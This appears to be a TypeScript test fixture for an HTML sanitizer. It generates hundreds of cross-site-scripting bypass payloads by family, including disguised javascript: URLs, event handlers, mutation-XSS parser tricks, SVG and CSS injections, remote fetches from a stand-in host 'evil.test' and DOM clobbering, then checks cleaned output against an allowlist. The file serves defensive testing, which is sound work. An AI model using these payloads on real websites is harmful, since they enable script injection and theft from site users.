/**
 * Ways to smuggle scripts, requests and disguises past a filter of HTML, by the families that the public collections
 * know. A case that comes through shows itself: it calls `alert(1)` or asks a host of `evil.test`.
 */
export interface XssCase {
  family: string;
  html: string;
}

const RUN = 'alert(1)';
const HOST = 'https://evil.test';
const SCRIPT = `<script>${RUN}</script>`;
const IMAGE = `<img src=x onerror=${RUN}>`;

/** One text in the ways in which browsers read it as a scheme. */
function disguises(scheme: string): string[] {
  const entities = (write: (code: number) => string) =>
    [...scheme].map((char) => write(char.codePointAt(0)!)).join('');
  const half = Math.floor(scheme.length / 2);
  const parted = (between: string) => scheme.slice(0, half) + between + scheme.slice(half);
  return [
    scheme,
    scheme.toUpperCase(),
    [...scheme].map((char, at) => (at % 2 ? char.toUpperCase() : char)).join(''),
    entities((code) => `&#${code};`),
    entities((code) => `&#${code}`),
    entities((code) => `&#${String(code).padStart(7, '0')};`),
    entities((code) => `&#x${code.toString(16)};`),
    entities((code) => `&#X${code.toString(16).toUpperCase().padStart(6, '0')}`),
    ...['\t', '\n', '\r', '&#9;', '&#x0A;', '&#13;', '&Tab;', '&NewLine;', '\0', '&#0;'].map(parted),
    ...[' ', '\u0001', '\u001f', '&#1;', '&#14;  ', '&#xa0;', '\ufeff', '\u2028'].map(
      (lead) => lead + scheme,
    ),
    scheme.replace(':', '&colon;'),
    scheme.replace(':', '&#58;'),
    scheme.replace(':', ' :'),
  ];
}

/** Where an address of the sender's would be followed, by itself or at a click. */
const CARRIERS: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_self>x</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button id=b>x</button><input type=submit></form>`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`,
];
const ADDRESSES = [
  ...disguises('javascript:').map((scheme) => `${scheme}${RUN}`),
  ...disguises('vbscript:')
    .slice(0, 4)
    .map((scheme) => `${scheme}msgbox(1)`),
  `data:text/html,${SCRIPT}`,
  `data:text/html;base64,${Buffer.from(SCRIPT).toString('base64')}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`).toString('base64')}`,
  `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${RUN}</script>`,
  `DATA:,${RUN}`,
  `javascript://${HOST}/%0a${RUN}`,
  `javascript:/*--></title></style></textarea>*/${RUN}`,
  `https:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `jar:${HOST}!/x`,
  'blob:https://evil.test/0190a1b2',
  'filesystem:https://evil.test/temporary/x',
];
const addresses = ADDRESSES.map((address, at) => CARRIERS[at % CARRIERS.length]!(address)).concat(
  ADDRESSES.map(CARRIERS[0]!),
);

const scripts = [
  SCRIPT,
  `<SCRIPT SRC=${HOST}/x.js></SCRIPT>`,
  `<script/xss src=${HOST}/x.js></script>`,
  `<script\n\r\f\tsrc=//evil.test/x.js></script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN};//<</script>`,
  `<script>${RUN}`,
  `<script src=${HOST}/x.js`,
  `</script>${SCRIPT}`,
  `<script\0>${RUN}</script\0>`,
  `<script type=module>import("${HOST}/x.js")</script>`,
  `<script type="text/&#106;avascript">${RUN}</script>`,
  `<script async src="data:text/javascript,${RUN}"></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}" />`,
  `<svg><script xlink:href=${HOST}/x.js></script></svg>`,
  `<math><script>${RUN}</script></math>`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<!--><script>${RUN}</script>-->`,
  `<!--[if gte IE 4]>${SCRIPT}<![endif]-->`,
  `<![CDATA[${SCRIPT}]]>`,
  `<?xml version="1.0"?><?import namespace="t" implementation="${HOST}/x.htc"?>${SCRIPT}`,
  `<% ${SCRIPT} %>`,
  `<link rel=import href="data:text/html,${SCRIPT}">`,
  `<script>\u2028${RUN}</script>`,
];

const EVENTS =
  'onload onerror onclick onfocus onfocusin onmouseover onpointerenter onanimationstart ontransitionend onbegin ' +
  'onend onrepeat ontoggle onbeforetoggle onscroll onscrollend onwheel oncopy onpaste ondrag ondrop oninput ' +
  'onbeforeinput oninvalid onhashchange onpageshow onpopstate onmessage onresize oncanplay onloadstart onbeforematch ' +
  'oncontentvisibilityautostatechange onsecuritypolicyviolation onwebkitanimationstart onshow onunhandledrejection';
const handlers = [
  ...EVENTS.split(' ').map(
    (name) => `<p ${name}="${RUN}" tabindex=1 autofocus contenteditable style="animation:x 1s">x</p>`,
  ),
  IMAGE,
  `<img src=x oNeRrOr=${RUN}>`,
  `<img/src="x"/onerror=${RUN}//>`,
  `<img src=x:${RUN} onerror=eval(src.slice(2))>`,
  `<img src="x\`> \`><script>${RUN}</script>"onerror=${RUN}>`,
  `<img src=x onerror&#61;${RUN} onerror =${RUN}>`,
  `<img src=x onerror\n=\n"&#97;lert(1)">`,
  `<img src=x\0onerror=${RUN}>`,
  `<img src=x \u000bonerror=${RUN} \u000conerror=${RUN}>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>"\\>`,
  `<img src='1' onerror\u200b='x' onerror='${RUN}' <`,
  `<img alt="\`" src=x onerror="${RUN}" title="\`">`,
  `<p title='">${IMAGE}'>x</p>`,
  `<p title="${IMAGE.replaceAll('"', '')}">x</p>`,
  `<a href="https://x.test/&quot; onfocus=&quot;${RUN}&quot; autofocus x=&quot;">x</a>`,
  `<a title="&quot;&gt;${IMAGE}">x</a>`,
  `<body onload=${RUN} onpageshow=${RUN}>x</body>`,
  `<frameset onload=${RUN}><frame src=x></frameset>`,
  `<details open ontoggle=${RUN}><summary onclick=${RUN}>x</summary></details>`,
  `<video autoplay onloadstart=${RUN}><source onerror=${RUN} src=x></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}><textarea autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN} loop=1 width=0>x</marquee>`,
  `<object onerror=${RUN} data=x></object><embed onload=${RUN} src=x>`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<x-y onclick=${RUN} style="position:fixed;inset:0">x</x-y>`,
  `<a-b contenteditable onbeforeinput=${RUN} is=script>x</a-b>`,
  `<p popover id=p onbeforetoggle=${RUN}>x</p><button popovertarget=p>x</button>`,
];

/** Where one parser reads markup and another one text. */
const mutations = [
  `<noscript><p title="</noscript>${IMAGE}">`,
  `<noembed><p title="</noembed>${IMAGE}">`,
  `<noframes><p title="</noframes>${IMAGE}">`,
  `<iframe><p title="</iframe>${IMAGE}">`,
  `<xmp><p title="</xmp>${IMAGE}">`,
  `<style><p title="</style>${IMAGE}">`,
  `<title><p title="</title>${IMAGE}">`,
  `<textarea><p title="</textarea>${IMAGE}">`,
  `<plaintext><p title="</plaintext>${IMAGE}">`,
  `<template><p title="</template>${IMAGE}">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<textarea>&lt;/textarea&gt;&lt;img src=x onerror=${RUN}&gt;</textarea>`,
  `<svg></p><style><a id="</style>${IMAGE}">`,
  `<svg><p><style><g title="</style>${IMAGE}">`,
  `<svg><style>&lt;img src=x onerror=${RUN}&gt;</style></svg>`,
  `<svg><title><style><img title="</style>${IMAGE}">`,
  `<svg><desc><noscript></desc></svg>${IMAGE}</noscript>`,
  `<svg><foreignObject><math><mi><style><!--</style>${IMAGE}--></style></mi></math></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style>${IMAGE}`,
  `<math><mtext><table><mglyph><style><math><table id="</table>${IMAGE}">`,
  `<math><mi><table><malignmark><style><![CDATA[</style>${IMAGE}]]>`,
  `<math><annotation-xml encoding="text/html"><style>${IMAGE}</style></annotation-xml></math>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><svg><style><p title="</style>${IMAGE}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  `<form id=1><div></form><form id=2><table><style><p title="</style>${IMAGE}">`,
  `<table><svg><style><td title="</style>${IMAGE}"></table>`,
  `<select><style><option title="</style>${IMAGE}"></select>`,
  `<select><template><script>${RUN}</script></template></select>`,
  `<p><a title="<!--"></a>${IMAGE}--></p>`,
  `<!-- --!>${IMAGE}-->`,
  `<!--->${IMAGE}-->`,
  `<!-- <!-- -->${IMAGE} -->`,
  `<!doctype x [<!ENTITY y "${SCRIPT}">]>${IMAGE}`,
  `<?${IMAGE}?>`,
  `</${IMAGE}>`,
  `</ p title=">${IMAGE}">`,
  `<p/title="/>${IMAGE}">`,
  `<p =">${IMAGE}">`,
  `<p title=x"y>${IMAGE}">`,
  `<a<img src=x onerror=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<table background=javascript:${RUN}><td>${IMAGE}<tr>${SCRIPT}</table>`,
  `<b><p><i></b>${IMAGE}</i></p>`,
  `<pre>\n\n${IMAGE}</pre>`,
  `<option><style></option></select><b>${IMAGE}</b></style>`,
  `<embed><svg><style><!--</embed>${IMAGE}-->`,
  `<ruby><rtc><style><p title="</style>${IMAGE}"></ruby>`,
  `<div>${'<font>'.repeat(600)}<svg><style><p title="</style>${IMAGE}">`,
  `<p ${'a=1 '.repeat(80)}title='">${IMAGE}'>x`,
  `<template shadowrootmode=open>${IMAGE}</template>`,
  `<div><template shadowrootmode="open"><slot></slot>${SCRIPT}</template>${IMAGE}</div>`,
];

const foreign = [
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x" /></svg>`,
  `<svg><image href=${HOST}/x.png /></svg>`,
  `<svg><feImage href=${HOST}/x.svg /></svg>`,
  `<svg><foreignObject><iframe srcdoc="${SCRIPT}"></iframe></foreignObject></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`,
  `<svg style="background:url(${HOST}/x.png)"><rect fill="url(${HOST}/x.svg#f)" /></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline#${HOST}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `<svg:script>${RUN}</svg:script>`,
];

const STYLES = [
  `background:url(${HOST}/x.png)`,
  `background:url('${HOST}/x.png')`,
  `background:URL(//evil.test/x.png)`,
  `background:u\\72l(${HOST}/x.png)`,
  `background:\\000075\\00072\\0006c(${HOST}/x.png)`,
  `background:u/**/rl(${HOST}/x.png)`,
  `background:url/**/(${HOST}/x.png)`,
  `background:image-set("${HOST}/x.png" 1x)`,
  `background:-webkit-image-set(url(${HOST}/x.png) 1x)`,
  `background:-webkit-cross-fade(url(${HOST}/x.png),url(x),50%)`,
  `background:linear-gradient(red,blue),url(${HOST}/x.png)`,
  `background:var(--x,url(${HOST}/x.png))`,
  `--x:url(${HOST}/x.png);background:var(--x)`,
  `background:src("${HOST}/x.png")`,
  `background:attr(title type(*))`,
  `list-style:url(${HOST}/x.png)`,
  `list-style-image:url(${HOST}/x.png)`,
  `border-image:url(${HOST}/x.png) 1`,
  `cursor:url(${HOST}/x.cur),auto`,
  `content:url(${HOST}/x.png)`,
  `filter:url(${HOST}/x.svg#f)`,
  `mask:url(${HOST}/x.svg#f)`,
  `clip-path:url(${HOST}/x.svg#f)`,
  `offset-path:url(${HOST}/x.svg#f)`,
  `shape-outside:url(${HOST}/x.png)`,
  `font-family:x;src:url(${HOST}/x.woff)`,
  `width:expression(${RUN})`,
  `width:exp/**/ression(${RUN})`,
  `xss:ex\\pression(${RUN})`,
  `behavior:url(${HOST}/x.htc)`,
  `-moz-binding:url(${HOST}/x.xml#x)`,
  `color:red;@import url(${HOST}/x.css)`,
  `color:red}*{background:url(${HOST}/x.png)`,
  `color:red</style>${SCRIPT}`,
  `color:&quot;red&quot;;background:url(&quot;${HOST}/x.png&quot;)`,
  `background:url(&#104;ttps://evil.test/x.png)`,
  `background:url(\n${HOST}/x.png\n)`,
  `background:url(javascript:${RUN})`,
];
const styles = [
  ...STYLES.map((style) => `<p style="${style.includes('"') ? style.replaceAll('"', "'") : style}">x</p>`),
  `<style>@import "${HOST}/x.css";</style>`,
  `<style>@import url(${HOST}/x.css);*{background:url(${HOST}/y.png)}</style>`,
  `<style>@\\69mport '${HOST}/x.css'</style>`,
  `<style>@font-face{font-family:x;src:url(${HOST}/x.woff)}*{font-family:x}</style>`,
  `<style>input[value^=a]{background:url(${HOST}/a)}</style>`,
  `<style>p{color:red}</style><style></style/>${IMAGE}`,
  `<style>*{x:expression(${RUN})}</style>`,
  `<style type=text/javascript>${RUN}</style>`,
  `<link rel=stylesheet href=${HOST}/x.css>`,
  `<link rel="preload" as=image href=${HOST}/x.png><link rel=prefetch href=${HOST}/x><link rel=dns-prefetch href=//x.evil.test>`,
  `<link rel=icon href=${HOST}/x.ico><link rel=modulepreload href=${HOST}/x.js>`,
];

const fetches = [
  `<img srcset="${HOST}/x.png 1x, ${HOST}/y.png 2x">`,
  `<img src=data:, srcset=//evil.test/x.png sizes=1px>`,
  `<picture><source srcset=${HOST}/x.png><img src=x></picture>`,
  `<img lowsrc=${HOST}/x.png dynsrc=${HOST}/x.avi longdesc=${HOST}/x usemap=#m>`,
  `<img src="cid:nobody" crossorigin ping=${HOST}/x>`,
  `<a href=https://x.test ping=${HOST}/x>x</a>`,
  `<meta http-equiv=refresh content="0;url=${HOST}/x">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0; url=data:text/html;base64,${Buffer.from(SCRIPT).toString('base64')}">`,
  `<meta http-equiv="Link" content="<${HOST}/x.css>; rel=stylesheet">`,
  `<meta http-equiv="Set-Cookie" content="a=b"><meta charset=utf-7>`,
  `<meta name=referrer content=unsafe-url>`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="${HOST}/"><a href=x>x</a><img src=x>`,
  `<base href="javascript:${RUN}//"><a href=x>x</a>`,
  `<base target="_top"><a href=https://x.test>x</a>`,
  `<form action=${HOST}/x><input name=p value=1><button autofocus>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button><input type=image formaction=${HOST}/x src=${HOST}/x.png>`,
  `<form id=f></form><button form=f formaction=${HOST}/x>x</button>`,
  `<iframe src=${HOST}/x></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${RUN}&gt;"></iframe>`,
  `<iframe src="javascript:${RUN}" srcdoc="${SCRIPT}" sandbox="allow-scripts"></iframe>`,
  `<fencedframe src=${HOST}/x></fencedframe><portal src=${HOST}/x></portal>`,
  `<frameset><frame src=${HOST}/x></frameset>`,
  `<object data=${HOST}/x.swf><param name=movie value=${HOST}/y.swf></object>`,
  `<object type=text/html data="data:text/html,${SCRIPT}"></object>`,
  `<embed src=${HOST}/x.svg type=image/svg+xml allowscriptaccess=always>`,
  `<applet code=x codebase=${HOST}/></applet>`,
  `<video poster=${HOST}/x.png src=${HOST}/x.mp4></video>`,
  `<audio autoplay src=${HOST}/x.mp3></audio>`,
  `<video><track default src=${HOST}/x.vtt><source src=${HOST}/y.mp4></video>`,
  `<input type=image src=${HOST}/x.png>`,
  `<body background=${HOST}/x.png bgcolor=red>x</body>`,
  `<table background=${HOST}/x.png><tr background=${HOST}/y.png><td background=${HOST}/z.png>x</table>`,
  `<xml id=x src=${HOST}/x.xml></xml><span datasrc=#x datafld=y dataformatas=html></span>`,
  `<html manifest=${HOST}/x.appcache>x</html>`,
  `<bgsound src=${HOST}/x.wav><layer src=${HOST}/x></layer><ilayer src=${HOST}/x></ilayer>`,
  `<q cite=${HOST}/x>x</q><blockquote cite="javascript:${RUN}">x</blockquote><del cite=${HOST}/x>x</del>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${HOST}/x"]}]}</script>`,
  `<p attributionsrc=${HOST}/x>x</p><img attributionsrc=${HOST}/x src=x>`,
];

/** Names that stand in the place of a page's own properties. */
const clobbering = [
  '<img name=body><img name=head><img name=documentElement><img name=querySelectorAll>',
  '<form name=body><input name=childNodes><input name=attributes><input name=localName></form>',
  `<form><input name=nodeName><input name=parentNode><input name=firstChild>${IMAGE}</form>`,
  `<form><input name=attributes><input name=removeAttribute><div onclick=${RUN}>x</div></form>`,
  `<form id=documentElement></form><form id=defaultView></form>${SCRIPT}`,
  `<a id=CONFIG></a><a id=CONFIG name=url href="cid:&quot;onerror=${RUN}//">x</a>`,
  `<a name=m-1 href=https://x.test>x</a><div id=root></div><div id=m-1></div>`,
  '<p class="fixed inset-0" id=app role=button data-x=1 slot=x part=x is=x>x</p>',
  '<p __proto__=x constructor=x hasOwnProperty=x>x</p>',
  '<label for=x accesskey=x contenteditable draggable=true tabindex=1>x</label>',
];

const byFamily: Record<string, readonly string[]> = {
  addresses,
  scripts,
  handlers,
  mutations,
  foreign,
  styles,
  fetches,
  clobbering,
};

export const XSS_CASES: readonly XssCase[] = Object.entries(byFamily).flatMap(([family, list]) =>
  list.map((html) => ({ family, html })),
);

/** All that may ever come out, letter for letter: told here anew, so that no slip of the lists goes unseen. */
const TAG = new RegExp(
  '</?(?:a|abbr|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|' +
    'details|dfn|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|ol|p|pre|q|' +
    'rp|rt|ruby|s|samp|section|small|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|' +
    'ul|var|wbr)((?: [a-z-]+="[^"<>\'`]*")*)>',
  'y',
);
const ATTRIBUTE =
  /^(?:align|alt|bgcolor|border|cellpadding|cellspacing|clear|color|colspan|data-blocked|data-remote-src|datetime|dir|face|frame|height|href|hspace|lang|name|noshade|nowrap|open|rel|reversed|rowspan|rules|scope|size|span|src|start|style|summary|target|title|type|valign|value|vspace|width)$/;
const VALUES: Record<string, RegExp> = {
  href: /^(?:https?:\/\/|mailto:|tel:)/,
  src: /^(?:data:image\/(?:png|jpeg|gif|webp|bmp);base64,[\w+/=]+|blob:http.*)$/,
  'data-remote-src': /^https?:\/\//,
  target: /^_blank$/,
  rel: /^noopener noreferrer nofollow$/,
  name: /^mail-/,
  style: /^(?!.*(?:url|image|src|attr|var|expression|import|behavior|binding|position|[\\@{}]))/i,
};

/** What is in cleaned HTML that should not be; undefined where all is well. */
export function intruder(html: string): string | undefined {
  for (let at = html.indexOf('<'); at >= 0; at = html.indexOf('<', at + 1)) {
    TAG.lastIndex = at;
    const tag = TAG.exec(html);
    if (tag === null) return html.slice(at, at + 80);
    for (const [all, name, value] of tag[1]!.matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
      if (!ATTRIBUTE.test(name!) || !(VALUES[name!]?.test(value!) ?? true)) return all;
    }
  }
  return undefined;
}
